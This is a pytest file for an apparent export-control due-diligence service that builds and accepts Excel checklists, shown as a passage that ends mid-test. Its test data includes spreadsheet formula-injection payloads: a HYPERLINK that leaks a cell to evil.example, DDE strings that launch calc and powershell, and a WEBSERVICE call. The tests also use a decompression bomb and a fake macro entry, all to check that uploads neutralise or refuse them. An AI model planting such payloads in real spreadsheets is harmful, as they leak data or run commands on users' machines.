"""Excel due diligence checklists: templates, the workbook, LibreOffice, the upload round trip and refusals."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from hrdd.checklists.templates import CHOICES, TemplateError, check_directory, load_templates
from hrdd.checklists.workbook import build_workbook
from tests.conftest import load_fixture

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES_DIR = ROOT / "checklists"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TEMPLATES = load_templates(TEMPLATES_DIR)
SCREENINGS = ["checklist_screening_eg.json", "checklist_screening_hostile.json",
              "checklist_screening_no_flags.json"]
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C notepad'!'A1'", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "#N/A",
           "=cmd|'/C powershell'!A0", '=WEBSERVICE("http://evil.example")', "=Evil Systems"]


def open_xlsx(data: bytes, **kwargs):
    return load_workbook(io.BytesIO(data), **kwargs)


def question_rows(ws) -> dict[str, int]:
    return {ws.cell(row=r, column=1).value: r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value}


def fill(data: bytes, answers: dict[str, object], sheet_edits=None) -> bytes:
    """Answer questions by id the way a user would in Excel, and save."""
    wb = open_xlsx(data)
    ws = wb["Questions"]
    rows = question_rows(ws)
    for qid, value in answers.items():
        ws.cell(row=rows[qid], column=6).value = value
    if sheet_edits:
        sheet_edits(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# ---------------------------------------------------------------- templates

def test_every_shipped_template_is_valid_and_complete():
    assert set(TEMPLATES) == {"state-dept-2020", "eu-2021-821-art5", "bis-kyc-red-flags"}
    state = TEMPLATES["state-dept-2020"]
    assert sorted(state.steps) == list(range(1, 9))
    assert {q.step for q in state.questions} == set(range(1, 9))
    engine_ids = {"past_misuse": ("RF-1.1", "yes"), "exports_to_abusers": ("RF-2.2", "yes"),
                  "end_user_disclosed": ("RF-4.1", "no"), "accepts_safeguards": ("RF-6.1", "no")}
    for qid, (flag, risky) in engine_ids.items():
        q = state.question(qid)
        assert (q.red_flag, q.risky_answer, q.answer_type) == (flag, risky, "choice")
        assert state.red_flags[flag].raised_by == "engine"
    eu = TEMPLATES["eu-2021-821-art5"]
    assert [eu.steps[s] for s in sorted(eu.steps)] == [
        "Classification of the item", "Potential for misuse", "Stakeholder screening",
        "Transaction risk assessment", "Mitigation", "Awareness and notification"]
    assert eu.red_flags[eu.question("eu_aware_of_misuse").red_flag].severity == "critical"
    bis = TEMPLATES["bis-kyc-red-flags"]
    assert len(bis.questions) == 13 and {q.step for q in bis.questions} == {4}
    for template in TEMPLATES.values():
        for q in template.questions:
            assert q.text.strip() and q.guidance.strip()
            if q.red_flag:
                assert q.red_flag in template.red_flags


def _write_template(directory: Path, name: str, text: str) -> Path:
    path = directory / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


BROKEN = """
id: broken
version: 1
title: Broken
framework: x
description: x
sources: [{title: t, url: "ftp://example.org"}]
steps: [{step: 1, title: One}]
red_flags:
  XX-1: {title: t, severity: severe, raised_by: checklist, mitigation: m}
questions:
  - {id: q_one, step: 2, text: "Is this a question?", guidance: "Some guidance", answer_type: choice,
     red_flag: XX-9, risky_answer: yes}
  - {id: q_one, step: 1, text: "Is this a question?", guidance: "Some guidance", answer_type: choice}
  - {id: BadId, step: 1, text: "Is this a question?", guidance: "Some guidance", answer_type: choice, colour: red}
"""


def test_template_validation_names_file_and_every_problem(tmp_path):
    _write_template(tmp_path, "broken", BROKEN)
    good, bad = check_directory(tmp_path)
    assert not good and len(bad) == 1
    text = str(bad[0])
    assert "broken.yaml" in text
    for fragment in ("url", "severity", "questions.2.id", "colour"):
        assert fragment in text
    fixed = BROKEN.replace("ftp:", "https:").replace("severe", "high").replace(
        "  - {id: BadId, step: 1, text: \"Is this a question?\", guidance: \"Some guidance\", answer_type: choice, colour: red}\n", "")
    _write_template(tmp_path, "broken", fixed)
    _, bad = check_directory(tmp_path)
    problems = " | ".join(bad[0].problems)
    assert "duplicate question id" in problems
    assert "step 2 is not listed" in problems
    assert "XX-9 is not defined" in problems
    assert "needs the guidance step" in problems


def _cli():
    from hrdd.cli import cli
    from hrdd.plugins import make_plugin_manager
    make_plugin_manager(entry_points=False).hook.hrdd_register_commands(cli=cli)
    return cli


def test_checklists_check_command(tmp_path):
    result = CliRunner().invoke(_cli(), ["checklists", "check", str(TEMPLATES_DIR)])
    assert result.exit_code == 0, result.output
    assert result.output.count("ok ") == 3 and "state-dept-2020 2026.1" in result.output
    shutil.copy(TEMPLATES_DIR / "bis-kyc-red-flags.yaml", tmp_path)
    _write_template(tmp_path, "broken", BROKEN)
    result = CliRunner().invoke(_cli(), ["checklists", "check", str(tmp_path)])
    assert result.exit_code != 0
    assert "ERROR" in result.output and "broken.yaml" in result.output and "1 broken template" in result.output


# ---------------------------------------------------------------- the workbook

@pytest.mark.parametrize("fixture", SCREENINGS)
@pytest.mark.parametrize("template_id", sorted(TEMPLATES))
def test_workbook_structure_for_every_template(template_id, fixture):
    template = TEMPLATES[template_id]
    screening = load_fixture(fixture)
    wb = open_xlsx(build_workbook(screening, template))
    assert wb.sheetnames == ["How to fill this in", "Summary", "Questions", "Red flags", "Parties", "Sources",
                             "hrdd_meta"]
    assert wb["hrdd_meta"].sheet_state == "veryHidden"
    assert wb.security.lockStructure
    meta = {r[0]: r[1] for r in wb["hrdd_meta"].iter_rows(values_only=True)}
    assert meta["screening_id"] == screening["id"] and meta["template_id"] == template_id
    assert meta["template_version"] == template.version and re.fullmatch(r"[0-9a-f]{64}", meta["digest"])

    ws = wb["Questions"]
    headers = [c.value for c in ws[1]]
    assert headers[:6] == ["ID", "Step", "Topic", "Question", "Evidence guidance", "Answer"]
    assert ["Evidence notes", "Red flag", "Source", "Owner", "Due date", "Status"] == headers[6:]
    assert list(question_rows(ws)) == list(template.question_ids)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:L")
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.protection.sheet
    rows = question_rows(ws)
    lists = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    answer_dv = next(dv for dv in lists if dv.formula1 == '"Yes,No,Unknown,N/A"')
    for q in template.questions:
        cell = ws.cell(row=rows[q.id], column=6)
        assert cell.protection.locked is False  # the answer can be typed into
        assert ws.cell(row=rows[q.id], column=4).protection.locked is not False  # the question cannot
        assert ws.cell(row=rows[q.id], column=7).protection.locked is False  # evidence notes
        assert (cell.coordinate in answer_dv.sqref) == (q.answer_type == "choice")
    rules = {rule.formula[0] for cf in ws.conditional_formatting for rule in cf.rules}
    assert {'"Yes"', '"Unknown"'} <= rules
    assert wb["Red flags"].protection.sheet and wb["Parties"].freeze_panes == "A2"


def test_prefill_from_the_screening():
    screening = load_fixture("checklist_screening_eg.json")
    wb = open_xlsx(build_workbook(screening, TEMPLATES["state-dept-2020"]))
    ws = wb["Questions"]
    rows = question_rows(ws)
    assert ws.cell(row=rows["past_misuse"], column=6).value == "Unknown"
    assert ws.cell(row=rows["end_user_disclosed"], column=6).value == "Yes"
    assert ws.cell(row=rows["end_user_disclosed"], column=12).value == "Done"
    assert ws.cell(row=rows["accepts_safeguards"], column=6).value is None
    assert ws.cell(row=rows["accepts_safeguards"], column=12).value == "Open"
    assert ws.cell(row=rows["past_misuse"], column=8).value == "RF-1.1 (critical)"

    flags = list(wb["Red flags"].iter_rows(min_row=2, values_only=True))
    assert [f[0] for f in flags] == [f["id"] for f in screening["red_flags"]]
    rf31 = next(f for f in flags if f[0] == "RF-3.1")
    assert rf31[2] == "high" and "4/28" in rf31[4] and rf31[7] == "Open"
    assert rf31[6].startswith("Assess how the product could be used")  # mitigation from the template

    parties = list(wb["Parties"].iter_rows(min_row=2, values_only=True))
    assert [(p[0], p[1], p[2], p[4]) for p in parties] == [
        ("end-user", "Directorate of Public Security", "EG", "no match"),
        ("distributor", "Nile Integrated Systems", "AE", "no match")]
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=4, max_col=2, values_only=True) if r[0]}
    assert summary["Decision"] == "escalate" and summary["Gate"] == "hold"
    assert summary["Risk score and level"] == "72 (high)"
    assert "fiw 2025" in summary["Data versions"]
    assert "Suspension and termination for misuse" in summary["Safeguards"]
    assert {"Preparer", "Approver"} <= set(summary)
    sources = [r[0] for r in wb["Sources"].iter_rows(min_row=2, values_only=True)]
    assert "fiw" in sources and any("State" in s for s in sources)


def test_parties_sheet_puts_each_match_on_its_partys_row():
    # The engine names the party a match was found for as {role, name, country}: its rows say so, one per
    # match, under the party's own name (not an "unattributed" row named after a Python dict).
    screening = load_fixture("checklist_screening_eg.json")
    hik = {"role": "distributor", "name": "Hikvision Digital Technology Co Ltd", "country": "CN"}
    screening["transaction"]["parties"] += [{**hik, "government_linked": None}, {**hik, "government_linked": None}]
    screening["party_matches"] = [
        {"party": hik, "list": "U.S. BIS – Entity List", "entry_id": "rpl-1", "name": "Hangzhou Hikvision",
         "matched_name": "Hangzhou Hikvision", "score": 100, "status": "confirmed"},
        {"party": hik, "list": "U.S. DoD – Section 1260H List", "entry_id": "rpl-2", "name": "Hikvision",
         "matched_name": "Hikvision Digital", "score": 97, "status": "possible"}]
    wb = open_xlsx(build_workbook(screening, TEMPLATES["state-dept-2020"]))
    rows = list(wb["Parties"].iter_rows(min_row=2, values_only=True))
    assert [r[:8] for r in rows] == [
        ("end-user", "Directorate of Public Security", "EG", "Yes", "no match", None, None, None),
        ("distributor", "Nile Integrated Systems", "AE", "No", "no match", None, None, None),
        ("distributor", hik["name"], "CN", "Not stated", "confirmed match", "Hangzhou Hikvision / rpl-1",
         "U.S. BIS – Entity List", 100),
        ("distributor", hik["name"], "CN", "Not stated", "possible match", "Hikvision / Hikvision Digital / rpl-2",
         "U.S. DoD – Section 1260H List", 97)]  # the party listed twice is one party, as it is screened
    ws = wb["Parties"]
    assert all(ws.cell(row=r, column=9).protection.locked is False for r in range(2, len(rows) + 2))
    assert ws.cell(row=2, column=2).protection.locked is not False


def test_no_red_flags_sheet_says_so():
    wb = open_xlsx(build_workbook(load_fixture("checklist_screening_no_flags.json"), TEMPLATES["state-dept-2020"]))
    assert wb["Red flags"]["D2"].value == "The screening raised no red flags."


def test_transaction_text_never_becomes_a_formula():
    screening = load_fixture("checklist_screening_hostile.json")
    data = build_workbook(screening, TEMPLATES["state-dept-2020"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = open_xlsx(data)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.setdefault(cell.value, cell)
    texts = "\n".join(seen)
    for hostile in HOSTILE:
        assert hostile in texts, hostile
    for value, cell in seen.items():
        if value.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, value  # stays text even if re-entered in Excel
    assert seen["#N/A"].data_type == "s"
    assert any("Access control\ufffd with bell" in v for v in seen)  # control characters made harmless


# ---------------------------------------------------------------- LibreOffice

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed: "
                                   "apt-get install libreoffice-calc-nogui")


def _soffice(args: list[str], cwd: Path) -> None:
    profile = cwd / "lo-profile"
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", *args], cwd=cwd,
                   check=True, capture_output=True, timeout=180)


@needs_soffice
@pytest.mark.parametrize("template_id", sorted(TEMPLATES))
def test_libreoffice_converts_the_workbook_to_pdf(template_id, tmp_path):
    screening = load_fixture("checklist_screening_hostile.json")
    (tmp_path / "checklist.xlsx").write_bytes(build_workbook(screening, TEMPLATES[template_id]))
    _soffice(["--convert-to", "pdf", "--outdir", str(tmp_path / "out"), "checklist.xlsx"], tmp_path)
    pdf = tmp_path / "out" / "checklist.pdf"
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 10_000
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
        assert TEMPLATES[template_id].title in text
        assert "How to fill this in" in text and "A blank answer leaves the answer" in text
        assert "=1+1" in text  # LibreOffice shows the CRM's text; it did not compute 2
        assert "=HYPERLINK(" in text  # shown as typed, not turned into a link


@needs_soffice
def test_workbook_saved_by_libreoffice_uploads_cleanly(tmp_path):
    from hrdd.checklists.templates import get_template
    from hrdd.checklists.upload import read_checklist
    screening = load_fixture("checklist_screening_eg.json")
    data = fill(build_workbook(screening, TEMPLATES["state-dept-2020"]), {"past_misuse": "Yes",
                                                                           "accepts_safeguards": "No"})
    (tmp_path / "filled.xlsx").write_bytes(data)
    _soffice(["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"), "filled.xlsx"],
             tmp_path)
    resaved = (tmp_path / "out" / "filled.xlsx").read_bytes()
    checked = read_checklist(resaved, screening, lambda tid: get_template(TEMPLATES_DIR, tid))
    assert checked.answers == {"past_misuse": "yes", "end_user_disclosed": "yes", "accepts_safeguards": "no"}


# ---------------------------------------------------------------- the service

@pytest.fixture
def screened(client, auth_headers, transaction):
    response = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm"))
    assert response.status_code == 201
    return response.get_json()


def download(client, auth_headers, screening_id, template=None) -> bytes:
    url = f"/v1/screenings/{screening_id}/checklist.xlsx" + (f"?template={template}" if template else "")
    response = client.get(url, headers=auth_headers("export"))
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == XLSX
    return response.data


def upload(client, auth_headers, screening_id, data, content_type=XLSX, role="export"):
    return client.post(f"/v1/screenings/{screening_id}/checklist", data=data,
                       headers={**auth_headers(role), "Content-Type": content_type})


def test_an_upload_with_a_query_parameter_is_400_and_stores_nothing(app, client, auth_headers, screened):
    # The upload stores a screening: a ?dry_run=true meant to stop that must not be ignored.
    data = fill(download(client, auth_headers, screened["id"]), {"past_misuse": "No"})
    before = counts(app)
    response = client.post(f"/v1/screenings/{screened['id']}/checklist?dry_run=true", data=data,
                           headers={**auth_headers("export"), "Content-Type": XLSX})
    assert response.status_code == 400 and list(response.get_json()["errors"]) == ["dry_run"]
    assert "accepted: none" in response.get_json()["message"]
    assert counts(app) == before


def counts(app):
    from hrdd.checklists.evidence import count_uploads
    store = app.extensions["hrdd"].store
    return store.count_screenings(), count_uploads(store)


def test_round_trip_answer_changes_the_decision(app, client, auth_headers, screened):
    assert screened["decision"] == "escalate"
    assert "RF-1.1" not in [f["id"] for f in screened["red_flags"]]
    data = download(client, auth_headers, screened["id"])
    rows = question_rows(open_xlsx(data)["Questions"])
    assert open_xlsx(data)["Questions"].cell(row=rows["past_misuse"], column=6).value == "Unknown"
    filled = fill(data, {"past_misuse": "Yes", "review_date": "2027-03-31"})
    response = upload(client, auth_headers, screened["id"], filled)
    assert response.status_code == 201, response.get_json()
    new = response.get_json()
    assert new["id"] != screened["id"] and new["transaction_id"] == screened["transaction_id"]
    assert new["decision"] == "do_not_proceed" and new["gate"] == "block"
    assert "RF-1.1" in [f["id"] for f in new["red_flags"]]
    assert new["transaction"]["answers"] == {"past_misuse": "yes", "end_user_disclosed": "yes"}
    assert new["transaction"]["end_user"] == screened["transaction"]["end_user"]
    assert response.headers["Location"] == f"/v1/screenings/{new['id']}"
    assert client.get(response.headers["Location"], headers=auth_headers("crm")).get_json()["decision"] == \
        "do_not_proceed"

    from hrdd.checklists.evidence import upload_content, uploads_of
    store = app.extensions["hrdd"].store
    [row] = uploads_of(store, screened["id"])
    assert row["new_screening_id"] == new["id"] and row["id"] == new["checklist_upload"]["id"]
    assert row["template_id"] == "state-dept-2020" and row["answers"]["past_misuse"] == "yes"
    assert row["record"]["responses"]["review_date"]["answer"] == "2027-03-31"
    assert row["uploaded_by"] == "test-export"
    assert upload_content(store, row["id"]) == filled
    with store.engine.connect() as conn:
        import sqlalchemy as sa
        source = conn.execute(sa.text("SELECT source FROM screenings WHERE id = :i"), {"i": new["id"]}).scalar()
    assert source == "checklist"


def party_notes(notes: dict[str, object]):
    """A sheet edit typing review notes into the Parties sheet, by party name; text is typed as text."""
    def edit(wb):
        ws = wb["Parties"]
        for row in range(2, ws.max_row + 1):
            name = ws.cell(row=row, column=2).value
            if name in notes:
                cell = ws.cell(row=row, column=9)
                cell.value = notes[name]
                if isinstance(notes[name], str) and not notes[name].startswith("=SUM"):
                    cell.data_type = "s"  # typed as text (Excel's quote prefix), never a formula
    return edit


def test_parties_review_notes_are_read_and_kept_with_the_upload(app, client, auth_headers, screened):
    from hrdd.checklists.evidence import uploads_of

    notes = {"Directorate of Public Security": "  Ministry ownership letter on file 42; signed J. Doe  ",
             "Nile Integrated Systems": '=HYPERLINK("http://evil.example","ok")'}
    filled = fill(download(client, auth_headers, screened["id"]), {}, party_notes(notes))
    response = upload(client, auth_headers, screened["id"], filled)
    assert response.status_code == 201, response.get_json()
    expected = [
        {"role": "end-user", "name": "Directorate of Public Security", "country": "EG",
         "restricted_party_result": "no match", "matched_entry": None, "list": None,
         "review_notes": "Ministry ownership letter on file 42; signed J. Doe"},
        {"role": "distributor", "name": "Nile Integrated Systems", "country": "AE",
         "restricted_party_result": "no match", "matched_entry": None, "list": None,
         "review_notes": '=HYPERLINK("http://evil.example","ok")'}]  # text, as typed
    assert response.get_json()["checklist_upload"]["party_notes"] == expected
    [row] = uploads_of(app.extensions["hrdd"].store, screened["id"])
    assert row["record"]["parties"] == expected
    # A row cleared is recorded as such (it decides what the next checklist carries for the party).
    blank = fill(download(client, auth_headers, response.get_json()["id"]), {}, party_notes(dict.fromkeys(notes)))
    again = upload(client, auth_headers, response.get_json()["id"], blank).get_json()
    assert again["checklist_upload"]["party_notes"] == []
    latest = uploads_of(app.extensions["hrdd"].store, response.get_json()["id"])[0]["record"]["parties"]
    assert [p["review_notes"] for p in latest] == [None, None]


def test_parties_review_notes_that_cannot_be_read_are_refused(app, client, auth_headers, screened):
    data = download(client, auth_headers, screened["id"])
    before = counts(app)
    formula = upload(client, auth_headers, screened["id"],
                     fill(data, {}, party_notes({"Nile Integrated Systems": "=SUM(1,2)"}))).get_json()
    assert formula["code"] == "invalid_checklist" and "Parties!I3 holds a formula" in formula["message"]

    def renamed(wb):
        wb["Parties"].cell(row=3, column=2, value="Someone Else LLC")
        wb["Parties"].cell(row=3, column=9, value="cleared")
    moved = upload(client, auth_headers, screened["id"], fill(data, {}, renamed))
    assert moved.status_code == 422 and "Parties!I3" in moved.get_json()["errors"]["parties"], moved.get_json()

    def long_notes(wb):
        wb["Parties"].cell(row=2, column=9, value="x" * 40_000)
    assert counts(app) == before
    kept = upload(client, auth_headers, screened["id"], fill(data, {}, long_notes)).get_json()
    assert len(kept["checklist_upload"]["party_notes"][0]["review_notes"]) == 32767  # bounded

    def extra_column(wb):
        wb["Parties"].cell(row=1, column=10, value="Review notes")
    data = download(client, auth_headers, kept["id"])
    column = upload(client, auth_headers, kept["id"], fill(data, {}, extra_column)).get_json()
    assert column["code"] == "invalid_checklist" and "'Parties' has the header row" in column["message"]


def test_multipart_upload_and_checklist_raised_flag(client, auth_headers):
    norway = load_fixture("transaction_norway_storage.json")
    first = client.post("/v1/screenings", json=norway, headers=auth_headers("crm")).get_json()
    assert first["decision"] == "proceed"
    data = download(client, auth_headers, first["id"], template="bis-kyc-red-flags")
    filled = fill(data, {"kyc_reluctant_end_use": "yes ", "kyc_unusual_payment": "No"})
    response = client.post(f"/v1/screenings/{first['id']}/checklist", headers=auth_headers("export"),
                           data={"file": (io.BytesIO(filled), "kyc.xlsx", XLSX)},
                           content_type="multipart/form-data")
    assert response.status_code == 201, response.get_json()
    new = response.get_json()
    flag = next(f for f in new["red_flags"] if f["id"] == "KYC-2")
    assert flag["severity"] == "high" and flag["step"] == 4 and "kyc_reluctant_end_use = Yes" in flag["evidence"]
    assert new["decision"] == "escalate"
    assert new["checklist_upload"]["answers"] == {"kyc_reluctant_end_use": "yes", "kyc_unusual_payment": "no"}


def test_download_needs_the_export_role_and_a_known_template(client, auth_headers, screened):
    url = f"/v1/screenings/{screened['id']}/checklist.xlsx"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=auth_headers("crm")).status_code == 403
    bad = client.get(url + "?template=nope", headers=auth_headers("export"))
    assert bad.status_code == 422 and "state-dept-2020" in bad.get_json()["message"]
    twice = client.get(url + "?template=state-dept-2020&template=nope", headers=auth_headers("export"))
    assert twice.status_code == 400 and list(twice.get_json()["errors"]) == ["template"]
    misspelt = client.get(url + "?tempalte=eu-2021-821-art5", headers=auth_headers("export"))
    assert misspelt.status_code == 400 and "'tempalte'" in misspelt.get_json()["message"]
    assert set(misspelt.get_json()["errors"]) == {"tempalte"}
    eu = open_xlsx(download(client, auth_headers, screened["id"], template="eu-2021-821-art5"))
    assert "eu_aware_of_misuse" in question_rows(eu["Questions"])


@pytest.mark.store
def test_configured_default_template(tmp_path, app_config, auth_headers):
    from server import create_app
    app = create_app({**app_config, "HRDD_CHECKLIST_TEMPLATE": "eu-2021-821-art5"})
    client = app.test_client()
    _, crm = app.extensions["hrdd"].store.create_api_key("c", "crm")
    _, exp = app.extensions["hrdd"].store.create_api_key("e", "export")
    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"),
                        headers={"Authorization": f"Bearer {crm}"}).get_json()
    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers={"Authorization": f"Bearer {exp}"}).data
    meta = {r[0]: r[1] for r in open_xlsx(data)["hrdd_meta"].iter_rows(values_only=True)}
    assert meta["template_id"] == "eu-2021-821-art5"
    app.extensions["hrdd"].store.engine.dispose()


# ---------------------------------------------------------------- refused uploads

def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def _with_entries(data: bytes, extra: dict[str, bytes], replace=None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    for name, fn in (replace or {}).items():
        entries[name] = fn(entries[name])
    return _zip({**entries, **extra})


def _set_meta(key, value):
    def edit(wb):
        ws = wb["hrdd_meta"]
        for row in ws.iter_rows():
            if row[0].value == key:
                row[1].value = value
    return edit


def refusals(data: bytes, other: bytes):
    """(name, body, content type, status, code) for every kind of upload that must be refused."""
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"\0" * (60 * 1024 * 1024)})
    return [
        ("another screening's workbook", other, XLSX, 422, "checklist_mismatch"),
        ("answer outside the dropdown", fill(data, {"past_misuse": "Maybe", "accepts_safeguards": "Perhaps"}),
         XLSX, 422, "validation_error"),
        ("unknown question id", fill(data, {}, lambda wb: wb["Questions"].cell(row=2, column=1,
                                                                                value="invented_question")),
         XLSX, 422, "validation_error"),
        ("tampered digest", fill(data, {}, _set_meta("digest", "0" * 64)), XLSX, 422, "checklist_mismatch"),
        ("older template version", fill(data, {}, _set_meta("template_version", "2019.1")), XLSX, 422,
         "checklist_mismatch"),
        ("macro-enabled content type", data, "application/vnd.ms-excel.sheet.macroEnabled.12", 415,
         "macro_enabled"),
        ("vbaProject inside", _with_entries(data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), XLSX, 415,
         "macro_enabled"),
        ("macro-enabled main part", _with_entries(data, {}, {"[Content_Types].xml": lambda b: b.replace(
            b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")}), XLSX, 415,
         "macro_enabled"),
        ("decompression bomb", bomb, XLSX, 413, "uncompressed_too_large"),
        ("legacy xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, XLSX, 415, "unsupported_media_type"),
        ("a PDF", b"%PDF-1.7\n%...", XLSX, 415, "unsupported_media_type"),
        ("a Word file", _zip({"[Content_Types].xml": b'<Types><Override ContentType="application/vnd.openxmlformats-'
                                                     b'officedocument.wordprocessingml.document.main+xml"/></Types>',
                              "word/document.xml": b"<w/>"}), XLSX, 415, "unsupported_media_type"),
        ("plain text content type", data, "text/plain", 415, "unsupported_media_type"),
        ("empty body", b"", XLSX, 422, "invalid_checklist"),
        ("not an hrdd checklist", _minimal_workbook(), XLSX, 422, "invalid_checklist"),
    ]


def _minimal_workbook() -> bytes:
    from openpyxl import Workbook
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def test_every_refused_upload_stores_nothing(app, client, auth_headers, screened, transaction):
    data = download(client, auth_headers, screened["id"])
    transaction["reference"]["object_id"] = "another-opportunity"
    other_screening = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm")).get_json()
    other = download(client, auth_headers, other_screening["id"])
    before = counts(app)
    for name, body, content_type, status, code in refusals(data, other):
        response = upload(client, auth_headers, screened["id"], body, content_type)
        payload = response.get_json()
        assert (response.status_code, payload["code"]) == (status, code), (name, payload)
        assert payload["message"], name
        assert counts(app) == before, name
    invalid = upload(client, auth_headers, screened["id"],
                     fill(data, {"past_misuse": "Maybe", "accepts_safeguards": "Perhaps"})).get_json()
    assert set(invalid["errors"]["answers"]) == {"past_misuse", "accepts_safeguards"}
    assert "past_misuse" in invalid["message"] and "'Maybe' is not one of Yes, No, Unknown, N/A" in \
        invalid["errors"]["answers"]["past_misuse"][0]
    assert "2019.1" in upload(client, auth_headers, screened["id"],
                              fill(data, {}, _set_meta("template_version", "2019.1"))).get_json()["message"]


def test_a_superseded_screenings_checklist_is_sent_to_the_newest_screening(client, auth_headers, screened,
                                                                           transaction):
    old = download(client, auth_headers, screened["id"])
    transaction["stage"] = "order"
    newest = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm")).get_json()
    mismatch = upload(client, auth_headers, newest["id"], old)
    body = mismatch.get_json()
    assert (mismatch.status_code, body["code"]) == (422, "checklist_mismatch")
    assert f"superseded by screening '{newest['id']}'" in body["message"]
    assert f"GET /v1/screenings/{newest['id']}/checklist.xlsx" in body["message"]
    assert "its own screening" not in body["message"] and body["errors"]["superseded_by"] == [newest["id"]]
    # Where the message sends the user is where the 409 of its own screening sends them too.
    superseded = upload(client, auth_headers, screened["id"], old).get_json()
    assert superseded["code"] == "checklist_superseded" and superseded["errors"]["superseded_by"] == [newest["id"]]
    # Another deal's checklist whose screening is still its newest belongs there.
    transaction["reference"]["object_id"] = "another-opportunity"
    other = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm")).get_json()
    elsewhere = upload(client, auth_headers, newest["id"], download(client, auth_headers, other["id"])).get_json()
    assert f"upload it to its own screening (POST /v1/screenings/{other['id']}/checklist)" in elsewhere["message"]


def test_whole_quantities_are_shown_without_a_decimal_point():
    screening = load_fixture("checklist_screening_eg.json")
    item = screening["transaction"]["items"][0]
    screening["transaction"]["items"] = [{**item, "quantity": 2.0}, {**item, "sku": "FR-201", "quantity": 400.0},
                                         {**item, "sku": "FR-202", "quantity": 2.5}]
    wb = open_xlsx(build_workbook(screening, TEMPLATES["state-dept-2020"]))
    items = {r[0]: r[1] for r in wb["Summary"].iter_rows(min_row=4, max_col=2, values_only=True)}["Items"]
    assert [line.rsplit("quantity ", 1)[1] for line in items.split("\n")] == ["2)", "400)", "2.5)"]


@pytest.mark.store
def test_upload_size_limit_and_roles(app_config, tmp_path):
    from server import create_app
    app = create_app({**app_config, "HRDD_CHECKLIST_MAX_UPLOAD": 4000})
    client = app.test_client()
    store = app.extensions["hrdd"].store
    keys = {role: {"Authorization": f"Bearer {store.create_api_key(role, role)[1]}"} for role in ("crm", "export")}
    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"),
                        headers=keys["crm"]).get_json()
    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers=keys["export"]).data
    assert len(data) > 4000
    url = f"/v1/screenings/{first['id']}/checklist"
    before = store.count_screenings()
    too_big = client.post(url, data=data, headers={**keys["export"], "Content-Type": XLSX})
    assert too_big.status_code == 413 and too_big.get_json()["code"] == "upload_too_large"
    assert "4000" in too_big.get_json()["message"]
    assert client.post(url, data=data, headers={"Content-Type": XLSX}).status_code == 401
    assert client.post(url, data=data, headers={**keys["crm"], "Content-Type": XLSX}).status_code == 403
    missing = client.post("/v1/screenings/scr_nope/checklist", data=data,
                          headers={**keys["export"], "Content-Type": XLSX})
    assert missing.status_code == 404
    no_field = client.post(url, data={"other": "x"}, headers=keys["export"], content_type="multipart/form-data")
    assert no_field.status_code == 422 and no_field.get_json()["errors"] == {"file": ["missing"]}
    assert store.count_screenings() == before
    store.engine.dispose()


def _app_with_own_templates(app_config, tmp_path):
    """An app reading a copy of the shipped templates; returns (app, template directory, client, store, crm)."""
    from server import create_app
    directory = tmp_path / "checklists"
    shutil.copytree(TEMPLATES_DIR, directory)
    app = create_app({**app_config, "HRDD_CHECKLISTS_DIR": str(directory)})
    store = app.extensions["hrdd"].store
    crm = {"Authorization": f"Bearer {store.create_api_key('c', 'crm')[1]}"}
    return app, directory, app.test_client(), store, crm


@pytest.mark.store
def test_template_changed_since_download_is_refused(app_config, tmp_path):
    app, directory, client, store, crm = _app_with_own_templates(app_config, tmp_path)
    export = {"Authorization": f"Bearer {store.create_api_key('e', 'export')[1]}"}
